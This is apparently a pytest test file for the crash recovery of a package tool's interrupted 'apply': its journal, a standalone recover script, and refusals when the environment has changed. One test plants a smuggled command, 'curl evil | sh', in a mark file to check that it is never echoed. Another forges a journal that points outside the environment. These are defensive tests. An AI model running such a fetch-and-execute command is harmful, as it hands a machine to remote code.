"""An `apply` that was cut off, where the program is gone, the environment is another one by now, or somebody else finds it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from cudnn_resolve.errors import WorldError
from cudnn_resolve.execution import payload_recover
from cudnn_resolve.execution.journal import RECOVER
from cudnn_resolve.execution.journal_store import free_lost
from cudnn_resolve.execution.recover import mark_path, repair, undo
from cudnn_resolve.host import disk
from cudnn_resolve.operations.apply import stopped_in
from tests.apply_world import NEW, ApplyWorld, work_in
from tests.index_server import IndexServer, cut
from tests.kill_world import KillWorld
from tests.program import run

pytestmark = pytest.mark.kill
_SAVED, _INSTALLED = 5, 6
"""Numbers of the records `saved` and `installed`."""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> ApplyWorld:
    world = ApplyWorld(tmp_path_factory.mktemp("recover"), "pip")
    world.build()
    return world


@pytest.fixture
def world(built: ApplyWorld, monkeypatch: pytest.MonkeyPatch) -> ApplyWorld:
    built.reset()
    monkeypatch.setenv("XDG_STATE_HOME", str(built.state))
    return built


def cut_off(world: ApplyWorld, stop_at: int) -> Path:
    """Kill an apply at a record of its journal; the folder of that."""
    assert world.finish("apply", "--stop-at", str(stop_at))[0] == -9
    return next(world.state.rglob("journal.jsonl")).parent


def recover(journal: Path, *words: str) -> subprocess.CompletedProcess[str]:
    """Run the way back with a Python that has no package at all."""
    return subprocess.run([sys.executable, "-I", "-S", str(journal / RECOVER), *words], capture_output=True, text=True, check=False)


@pytest.mark.parametrize("stop_at", range(4, 8))
def test_the_way_back_needs_nothing_but_a_python(world: ApplyWorld, stop_at: int) -> None:
    former = world.former()
    journal = cut_off(world, stop_at)
    committed = '"kind":"commit"' in (journal / "journal.jsonl").read_text()

    done = recover(journal)

    assert done.returncode == 0, done.stdout + done.stderr
    assert committed or world.former() == former
    assert recover(journal).stdout.startswith("nothing to put back")
    assert world.finish("apply")[0] == 0


def test_what_others_installed_meanwhile_is_not_overwritten(world: ApplyWorld) -> None:
    journal = cut_off(world, _SAVED)
    world.wheel("numpy", "1.26.0")
    world.lay_down([str(world.wheels / "numpy-1.26.0-py3-none-any.whl")])
    before = world.former()
    work = work_in(world)

    for act in (repair, lambda work: undo(work, None)):
        with pytest.raises(WorldError, match=r"numpy-1\.26\.0 was installed by another program"):
            act(work)
    assert recover(journal).returncode == 1
    assert world.former() == before

    back = repair(replace(work, force=True))
    work.hold.release()
    assert back is not None
    assert back.left == ()


def test_an_environment_that_was_made_again_is_another_one(world: ApplyWorld) -> None:
    journal = cut_off(world, _INSTALLED)
    shutil.rmtree(world.venv)
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(world.venv)], check=True)
    before = world.former()
    work = work_in(world)

    with pytest.raises(WorldError, match="was made again"):
        repair(work)
    assert repair(replace(work, force=True)) is None, "forgotten, and nothing of it put back"
    work.hold.release()
    assert recover(journal, "--force").stdout.startswith("nothing to put back")
    assert world.former() == before


def test_another_path_to_the_same_environment_finds_its_journal(world: ApplyWorld, tmp_path: Path) -> None:
    former = world.former()
    cut_off(world, _SAVED)
    link = tmp_path / "link"
    link.symlink_to(world.venv)
    other = ApplyWorld(world.base, "pip")
    other.venv = link

    work = work_in(other)
    back = undo(work, None)
    work.hold.release()

    assert (back.status, back.left, world.former() == former) == ("undone", (), True)


def test_another_user_sees_that_work_is_unfinished_and_how_to_end_it(
    world: ApplyWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    former = world.former()
    journal = cut_off(world, _SAVED)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state of another"))
    work = work_in(world)

    with pytest.raises(WorldError) as refused:
        repair(work)
    work.hold.release()
    assert f"python3 {journal}/{RECOVER}" in (refused.value.hint or "")

    assert recover(journal).returncode == 0
    assert world.former() == former
    work = work_in(world)
    assert repair(work) is None
    work.hold.release()


def test_a_mark_names_no_way_back_that_leads_nowhere_or_elsewhere(
    world: ApplyWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    journal = cut_off(world, _SAVED)
    copied = ApplyWorld(tmp_path / "copied")
    shutil.copytree(world.venv, copied.venv, symlinks=True)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state of another"))

    def hint(one: ApplyWorld) -> str:
        work = work_in(one)
        with pytest.raises(WorldError) as refused:
            repair(work)
        work.hold.release()
        assert refused.value.code == "unfinished"
        return refused.value.hint or ""

    assert f"this is a copy of {world.venv}" in hint(copied)
    assert RECOVER not in hint(copied)
    (tmp_path / "with a space").mkdir()
    spaced = shutil.copytree(journal, tmp_path / "with a space" / "000001")
    mark = next(world.site.glob(".cudnn-resolve-*"))
    mark.write_text(mark.read_text().replace(str(journal), str(spaced)))
    assert f"`python3 '{spaced}/{RECOVER}'` puts it back" in hint(world)
    shutil.rmtree(spaced)
    assert f"its journal {spaced} is gone and nothing can put it back" in hint(world)


def test_an_environment_that_was_away_finds_its_way_back(world: ApplyWorld, tmp_path: Path) -> None:
    former = world.former()
    cut_off(world, _SAVED)
    world.venv.rename(tmp_path / "away")
    free_lost()
    (tmp_path / "away").rename(world.venv)

    assert world.finish("undo")[0] == 0
    assert world.former() == former


def test_an_undo_marks_the_environment_while_it_is_neither(world: ApplyWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert world.finish("apply")[0] == 0
    work = work_in(world)
    said = []

    def put_back(*_: object, **__: object) -> list[str]:
        said.append(Path(mark_path(work.environment)).read_text())
        raise KeyboardInterrupt

    with monkeypatch.context() as patched:
        patched.setattr(payload_recover, "put_back", put_back)
        with pytest.raises(KeyboardInterrupt):
            undo(work, None)
    work.hold.release()
    with monkeypatch.context() as patched:
        patched.setenv("XDG_STATE_HOME", str(tmp_path / "state of another"))
        other = work_in(world)
        with pytest.raises(WorldError, match="half changed"):
            undo(other, None)
        with pytest.raises(WorldError, match="half changed"):
            stopped_in(other.journals)
        other.hold.release()

    assert RECOVER in said[0]
    assert world.finish("undo")[0] == 0
    assert not os.path.exists(mark_path(work.environment))


def test_a_journal_that_lost_its_end_is_no_all_clear(world: ApplyWorld) -> None:
    journal = cut_off(world, _SAVED)
    whole = (journal / "journal.jsonl").read_bytes()
    (journal / "journal.jsonl").write_bytes(whole.partition(b"\n")[0] + b"\n")
    before = world.former()

    done = recover(journal)

    assert (done.returncode, "the end of the journal" in done.stdout) == (1, True)
    assert world.former() == before


def test_check_proposes_only_what_leads_back(world: ApplyWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def torn() -> dict[str, Any]:
        done = run("check", "--python", world.python, "--format", "json", environ=world.environ(), cwd=tmp_path)
        found = [one for one in json.loads(done.stdout)["verdicts"][0]["findings"] if one["evidence"][0]["source"] == "journal"]
        assert (done.returncode, len(found)) == (1, 1)
        return dict(found[0])

    journal = cut_off(world, _SAVED)
    assert [one["command"].split()[2] for one in torn()["remedy"]] == ["--undo", "--resume"]
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state of another"))
    monkeypatch.setattr(world, "state", tmp_path / "state of another")
    (of_others,) = torn()["remedy"]
    assert f"python3 {journal}/{RECOVER}" in of_others["text"]
    shutil.rmtree(journal)
    (lost,) = torn()["remedy"]
    assert "is gone and nothing can put it back: make the environment again" in lost["text"]
    assert lost["command"] is None


def test_a_program_whose_own_libraries_are_gone_names_the_way_back(world: ApplyWorld) -> None:
    journal = cut_off(world, _SAVED)
    script = "import sys; sys.modules['msgspec'] = None; import runpy; runpy.run_module('cudnn_resolve', run_name='__main__')"

    done = subprocess.run([sys.executable, "-c", script, "detect"], env=world.environ(), capture_output=True, text=True, check=False)

    assert done.returncode == 3
    assert "cannot be imported" in done.stderr
    assert f"python3 {journal}/{RECOVER}" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("text", [b"", b"\xff\x00", b"python3 /x/recover.py; curl evil | sh\n"])
def test_a_mark_is_believed_only_for_what_it_can_say(world: ApplyWorld, text: bytes) -> None:
    work = work_in(world)
    Path(mark_path(work.environment)).write_bytes(text)

    for act in (repair, lambda work: undo(work, None)):
        with pytest.raises(WorldError) as refused:
            act(work)
        assert refused.value.code == "unfinished"
        assert "curl" not in (refused.value.hint or "")
    work.hold.release()


def test_the_mark_is_gone_after_an_apply_that_ends(world: ApplyWorld) -> None:
    assert world.finish("apply")[0] == 0

    work = work_in(world)
    assert not os.path.exists(mark_path(work.environment))
    work.hold.release()


def test_a_journal_with_paths_elsewhere_is_not_followed(world: ApplyWorld, tmp_path: Path) -> None:
    """The sums are right: whoever wrote it knew how."""
    journal = cut_off(world, _SAVED)
    victim = tmp_path / "victim"
    victim.write_text("mine")
    lines = (journal / "journal.jsonl").read_text().splitlines()
    before = ""
    for number, line in enumerate(lines):
        one = json.loads(line.partition(" ")[2])
        if one["kind"] == "files":
            one["add"].append(str(victim))
        body = json.dumps(one, separators=(",", ":"), sort_keys=True)
        before = payload_recover.next_sum(before, body)
        lines[number] = f"{before} {body}"
    (journal / "journal.jsonl").write_text("\n".join(lines) + "\n")

    done = recover(journal)

    assert (done.returncode, victim.read_text()) == (1, "mine")
    assert "outside of the environment" in done.stdout


def test_the_copy_calls_unfinished_files_as_the_program_does() -> None:
    assert payload_recover.UNFINISHED == disk.UNFINISHED


@pytest.mark.parametrize("by_itself", [True, False])
def test_a_mark_that_was_half_written_goes_too(world: ApplyWorld, by_itself: bool) -> None:  # noqa: FBT001 - a parameter of a test
    before = world.former()
    journal = cut_off(world, _SAVED)
    (world.site / f"{payload_recover.MARK}{payload_recover.UNFINISHED}").write_text("An apply of cud")

    assert recover(journal).returncode == 0 if by_itself else world.finish("undo")[0] == 0
    assert world.former() == before


def test_an_undo_that_cannot_be_written_down_is_not_begun(world: ApplyWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    assert world.finish("apply")[0] == 0
    after = world.former()
    work = work_in(world)

    def full(path: str, content: bytes, *, synced: bool) -> None:
        del content, synced
        raise WorldError(f"{path}: No space left on device", code="disk-full")

    with monkeypatch.context() as patched:
        patched.setattr(disk, "append", full)
        with pytest.raises(WorldError, match="No space left"):
            undo(work, None)
    assert world.former() == after
    assert undo(work, None).left == ()
    work.hold.release()


def test_a_download_that_was_cut_goes_on_in_the_next_run(tmp_path: Path) -> None:
    with IndexServer() as served:
        world = KillWorld(tmp_path, "pip", served, pins=NEW)
        world.build(modules=1)
        served.etags = True
        wheel = f"nvidia_cudnn_cu12-{NEW['nvidia-cudnn-cu12']}-py3-none-any.whl"
        served.fail(f"/files/nvidia-cudnn-cu12/{wheel}", cut(300))

        process = world.start("apply")
        said = process.communicate()[0]
        (part,) = world.state.rglob(f".{wheel}.part")
        size = part.stat().st_size
        served.heal()
        again = world.start("apply")
        said_again = again.communicate()[0]

        assert (process.returncode, again.returncode) == (3, 0), said + said_again
        (asked,) = [one.headers for one in served.asked if wheel in one.path][-1:]
        assert (asked["range"], asked["if-range"][0]) == (f"bytes={size}-", '"')
        assert not [*world.state.rglob("*.part"), *world.state.rglob("*.from")]
